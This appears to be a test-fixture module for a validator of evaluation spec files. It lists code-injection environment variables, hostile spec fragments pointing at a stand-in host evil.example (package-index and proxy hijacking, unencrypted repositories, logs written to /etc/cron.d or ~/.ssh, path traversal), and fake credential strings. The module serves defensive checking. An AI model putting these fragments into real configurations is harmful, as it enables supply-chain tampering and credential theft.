"""Specs that someone hostile wrote: what each of them tries, piece by piece."""

CODE_VARIABLES = (
    "LD_PRELOAD", "LD_LIBRARY_PATH", "LD_AUDIT", "PATH", "PYTHONPATH", "PYTHONHOME",
    "PYTHONSTARTUP", "BASH_ENV", "ENV", "NODE_OPTIONS", "GIT_SSH_COMMAND", "GIT_CONFIG_GLOBAL",
    "DOCKER_HOST", "KUBECONFIG",
)  # fmt: skip
"""Variables that make an eval run code of whoever wrote the spec."""

RISKY = (
    ('env = { UV_INDEX_URL = "https://evil.example/simple" }', "where packages or weights come"),
    ('env = { HTTPS_PROXY = "http://evil.example:8080" }', "can read the eval's requests"),
    ('env = { SSL_CERT_FILE = "/x/ca.pem" }', "can read the eval's requests and keys"),
    ('packages = ["inspect-evals @ https://evil.example/x.whl"]', "comes from https://evil"),
    ('packages = ["inspect-evals @ git+http://evil.example/x"]', "is not encrypted"),
    ('code = { repository = "http://evil.example/x" }', "its code can be changed on the way"),
    ('code = { repository = "git://evil.example/x" }', "its code can be changed on the way"),
    ('base_url = "http://evil.example/v1"\nsecrets = ["K"]', "the API key can be read on the way"),
    ('log_dir = "/etc/cron.d"', "is not a usual place for logs"),
    ('log_dir = "~/.ssh"', "is not a usual place for logs"),
    ('log_dir = "/tmp/logs"', "open to every account"),
    ('log_dir = "/data/../etc"', "leads through `..`"),
)
"""Pieces of a spec that are allowed, each with words of the sentence that the plan has for it."""

SECRETS = (
    ("MY_PASS", "correct horse battery"),
    ("DB_PASSPHRASE", "correct horse battery"),
    ("HF_PAT", "something long"),
    ("X", "sk-proj-0123456789abcdefghij"),
    ("X", "ghp_abcdefghijklmnopqrstuvwxyz0123456789"),
    ("X", "hf_abcdefghijklmnopqrstuvwxyzABCDEF"),
    ("X", "AKIAIOSFODNN7EXAMPLE"),
    ("X", "-----BEGIN OPENSSH PRIVATE KEY-----"),
    ("X", "kJ8sQ2mVx7RtY4pLw9ZcBn3HdFgT6aUe"),
    ("X", "wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY01"),
    ("X", "https://ada:hunter22@example.org/x"),
)
"""Names and values that look like secrets."""
